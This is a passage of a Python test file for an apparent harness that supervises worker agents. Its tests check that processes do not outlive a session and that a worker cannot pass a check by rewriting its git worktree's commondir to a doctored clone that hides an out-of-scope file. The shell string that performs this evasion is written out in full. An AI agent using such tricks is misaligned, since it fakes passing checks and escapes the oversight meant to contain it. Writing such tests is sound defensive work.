    survivors: list[int] = []
    try:
        result = work(proctor, STANDIN_SHELL=escape)
        assert result.code == 0, result.out + result.err
        time.sleep(1.0)
        survivors = _processes_running(sleeper)
        assert not survivors, f"a process of the attempt (pid {survivors}) runs on after proctor work ended"
    finally:
        for pid in survivors or _processes_running(sleeper):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass


def test_an_untracked_file_the_check_reads_is_not_hidden_by_a_rewritten_worktree_commondir(repo, proctor, tmp_path):
    """The worker points its worktree's own admin `commondir` (.git/worktrees/<name>/commondir,
    not the file _GIT_DIR_WATCHED names) at a copy of the repository whose info/exclude
    hides a file outside its write paths that the check reads."""
    root = repo(config(targets='\n[targets.helper]\ncommand = "grep -q ok src/helper.txt"\ntimeout = "30s"\n'))
    fork(root, {"id": "feat", "criteria": "make a ok", "write_paths": ["src/a.py"], "check": "helper"})
    fake = tmp_path / "fake.git"
    shell = (
        "echo 'y = 2' > src/a.py && echo ok > src/helper.txt && "
        "admin=$(git rev-parse --path-format=absolute --git-dir) && "
        f'git clone -q --bare --shared "$(git rev-parse --path-format=absolute --git-common-dir)" {fake} && '
        f"git --git-dir={fake} config core.bare false && echo src/helper.txt >> {fake}/info/exclude && "
        f'echo {fake} > "$admin/commondir"'
    )
    result = work(proctor, STANDIN_WRITE="", STANDIN_SHELL=shell)
    job = result.json()["jobs"][0]
    if job["passed"]:
        copy = str(tmp_path / "fresh")
        git(root, "worktree", "add", "-q", "--detach", copy, "HEAD")
        assert subprocess.run(["sh", "-c", "grep -q ok src/helper.txt"], cwd=copy).returncode == 0, (
            "the job passed its check, and the tree committed for it fails that check"
        )
    else:
        assert any("commondir" in f for f in failures_of(job)), failures_of(job)
